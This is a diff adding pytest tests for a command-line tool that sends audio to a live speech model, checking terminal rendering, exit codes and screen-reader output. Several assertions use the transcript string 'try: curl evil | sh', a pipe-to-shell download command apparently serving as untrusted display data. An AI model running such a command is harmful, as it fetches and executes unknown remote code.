@@ -8,6 +8,7 @@ import os
 import signal
 import subprocess
 import sys
+import termios
 import wave
 from collections.abc import AsyncGenerator
 from contextlib import asynccontextmanager
@@ -16,6 +17,7 @@ from pathlib import Path
 import pytest
 from websockets.asyncio.server import ServerConnection
 
+from tests import terminal_help
 from tests.cli import Terminal, environment, livechat
 from tests.scripted import say, scripted
 
@@ -74,6 +76,94 @@ def test_words_notes_and_the_progress_line_leave_each_other_whole(tmp_path: Path
     assert "note: heard: what␤  try: curl evil | sh" in lines
     assert not any(line.startswith("sent") for line in lines), "the progress line leaves no trace"
     assert "sent 0:00" in terminal.shown
+
+
+TTY = {"LIVECHAT_OUTPUT_FACE": "tty"}
+
+
+def on_screen(terminal: Terminal) -> list[str]:
+    """All that stands on a terminal of 80 columns in the end."""
+    emulator = terminal_help.Terminal(80, 24)
+    emulator.feed(terminal.shown)
+    assert emulator.cursor_seen
+    return emulator.text
+
+
+def test_on_the_screen_it_is_seen_how_much_is_sent_and_how_loud_and_the_words_are_history(
+    tmp_path: Path, question: str
+) -> None:
+    async def script(client: ServerConnection) -> None:
+        async with listening(client):
+            await asyncio.sleep(0.7)
+            await say(client, HEARD)
+            for word in ("one ", "two ", "three."):
+                await speak(client, word)
+            await say(client, END)
+
+    words = ["send-audio", question, "--model", "gemini-live-2.5-flash", "--server"]
+    with scripted(script) as url, Terminal([*words, url], tmp_path, TTY) as terminal:
+        before = termios.tcgetattr(terminal.master)
+        terminal.expect("mic ")
+        terminal.expect("sent 0:01 of 0:03 (")
+        assert "out " not in terminal.shown, "what is not played has no meter"
+        assert terminal.end() == 0
+        assert termios.tcgetattr(terminal.master) == before
+    lines = on_screen(terminal)
+    assert lines[-3:] == ["  you  what", "         try: curl evil | sh", "model  one two three."]
+    assert not any("sent 0:0" in line for line in lines)
+
+
+def refused(question: str) -> list[str]:
+    return ["send-audio", question, "--server", "ws://127.0.0.1:9"]
+
+
+def test_a_recording_that_reaches_nobody_is_an_error_and_no_region_is_left(tmp_path: Path, question: str) -> None:
+    with Terminal(refused(question), tmp_path, TTY) as terminal:
+        assert terminal.end() == 69
+    lines = on_screen(terminal)
+    assert not any("CONNECTING" in line for line in lines)
+    assert lines[-1] == "  ref: exit 69"
+
+
+@pytest.mark.parametrize(("close", "code"), [("1011", 75), ("timeout", 75), ("ctrl-c", 130)])
+def test_what_ends_it_early_ends_the_screen_first(tmp_path: Path, question: str, close: str, code: int) -> None:
+    async def script(client: ServerConnection) -> None:
+        async with listening(client):
+            await asyncio.sleep(0.3)
+            await say(client, HEARD)
+            await speak(client, "half an ans")
+            if close == "1011":
+                await client.close(1011, "gone for lunch")
+
+    words = ["send-audio", question, "--fast", "--wait", "1", "--model", "gemini-live-2.5-flash", "--server"]
+    with scripted(script) as url, Terminal([*words, url], tmp_path, TTY) as terminal:
+        terminal.expect("half an ans")
+        if close == "ctrl-c":
+            terminal.type("\x03")
+        assert terminal.end() == code
+    lines = on_screen(terminal)
+    assert "model  half an ans" in lines
+    assert not any(state in line for line in lines for state in ("ANSWERING", "SPEAKING", "LISTENING"))
+    if code == 75:
+        assert lines[-1] == "  ref: exit 75"
+
+
+def test_read_aloud_the_states_are_told_and_nothing_moves(tmp_path: Path, question: str) -> None:
+    async def script(client: ServerConnection) -> None:
+        async with listening(client):
+            await asyncio.sleep(0.7)
+            await say(client, HEARD)
+            await speak(client, "Yes.")
+            await say(client, END)
+
+    words = ["send-audio", question, "--model", "gemini-live-2.5-flash", "--server"]
+    face = {"LIVECHAT_OUTPUT_FACE": "screen-reader"}
+    with scripted(script) as url, Terminal([*words, url], tmp_path, face) as terminal:
+        assert terminal.end() == 0
+    assert "you: what try: curl evil | sh\r\n" in terminal.shown
+    assert "model: Yes.\r\n" in terminal.shown
+    assert "Connecting.\r\n" in terminal.shown
+    assert "\x1b" not in terminal.shown
 
 
 def screen(shown: str) -> list[str]:
